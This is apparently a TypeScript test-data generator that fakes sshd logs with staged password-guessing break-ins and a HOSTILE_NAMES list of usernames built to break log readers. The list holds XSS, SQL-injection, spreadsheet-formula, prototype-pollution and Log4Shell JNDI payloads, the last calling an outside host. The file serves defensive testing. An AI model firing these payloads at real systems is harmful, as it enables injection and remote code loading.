import type { Frame } from './background'
import { clientOf, sayPasswords } from './connections'
import { playSession } from './household'
import type { Random } from './random'
import { DAY, HOUR, MINUTE } from './rhythm'
import { nowhere, type Source } from './sources'
import { sshd, type Scene } from './stage'

/**
 * What a careful reader should find: guessed passwords, and names made to break whoever reads the log.
 * All sources are documentation addresses.
 */

/** Where and when somebody got in after many failures. */
interface Break {
  readonly source: Source
  readonly user: string
  readonly uid: number
  /** Connections with failures before the one that got in, and tries of each. */
  readonly connections: number
  readonly tries: number
  /** Seconds between connections. */
  readonly gap: number
  /** Share of the log after which it begins. */
  readonly when: number
}

/** Both have more than six failures in the ten minutes before: no slip (counting.md, section 4.8). */
const BREAKS: readonly Break[] = [
  { source: nowhere('203.0.113.66'), user: 'deploy', uid: 1003, connections: 12, tries: 4, gap: 40, when: 0.62 },
  { source: nowhere('198.51.100.23'), user: 'backup', uid: 34, connections: 9, tries: 1, gap: 55, when: 0.81 },
]

/** Names as sshd writes them: markup, a formula, a forged source, an object's own, blanks, octal escapes, none. */
export const HOSTILE_NAMES: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '=cmd()',
  '__proto__',
  'constructor',
  'guest from 203.0.113.77 port 22 ssh2',
  '',
  ' root',
  'admin ',
  'caf\\303\\251',
  '\\343\\203\\206\\343\\202\\271\\343\\203\\210',
  '"; DROP TABLE users; --',
  '${jndi:ldap://198.51.100.9/a}',
]

function failures(at: number, { source, user, tries }: Break): Scene {
  return {
    at,
    play(stage) {
      const target = { user, valid: true }
      sayPasswords(sshd(stage, at), clientOf(stage.random, source), target, tries, stage.random.next())
      stage.tally.failure(source, target, tries, true)
    },
  }
}

function breakIn(frame: Frame, plan: Break): Scene[] {
  const first = frame.start + plan.when * (frame.end - frame.start - HOUR)
  const before = Array.from({ length: plan.connections }, (_, index) => failures(first + index * plan.gap, plan))
  const at = first + plan.connections * plan.gap
  const entry: Scene = {
    at,
    play(stage) {
      const login = { user: plan.user, uid: plan.uid, method: 'password', seconds: 4 * MINUTE } as const
      playSession(stage, at, stage.pid(), clientOf(stage.random, plan.source), login)
    },
  }
  return [...before, entry]
}

function hostileName(at: number, source: Source, user: string): Scene {
  return {
    at,
    play(stage) {
      const target = { user, valid: false }
      sayPasswords(sshd(stage, at), clientOf(stage.random, source), target, 1, stage.random.next())
      stage.tally.failure(source, target, 1, true)
    },
  }
}

/** Two break-ins and a visit by each hostile name. */
export function incidents(random: Random, frame: Frame): Scene[] {
  const source = nowhere('198.51.100.200')
  const from = frame.start + 0.3 * (frame.end - frame.start)
  const span = Math.min(DAY, (frame.end - from) / 2)
  const names = HOSTILE_NAMES.map((user, index) =>
    hostileName(from + ((index + random.next() / 2) / HOSTILE_NAMES.length) * span, source, user),
  )
  return [...names, ...BREAKS.flatMap((plan) => breakIn(frame, plan))]
}
